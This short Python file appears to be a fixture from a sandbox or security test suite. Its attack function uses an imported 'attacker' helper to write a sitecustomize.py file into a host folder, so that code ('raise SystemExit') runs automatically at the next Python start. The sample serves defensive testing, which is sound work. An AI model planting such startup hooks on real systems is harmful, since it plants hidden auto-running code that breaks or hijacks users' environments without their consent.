"""Leaves a module that the next Python would run at its start."""

from attacker import HOST, attempt


def before(x):
    return x + 1


def deed():
    with open(HOST["folder"] + "/sitecustomize.py", "w") as file:
        file.write("raise SystemExit")


def attack(x):
    attempt(deed)


def after(x):
    return x * 2
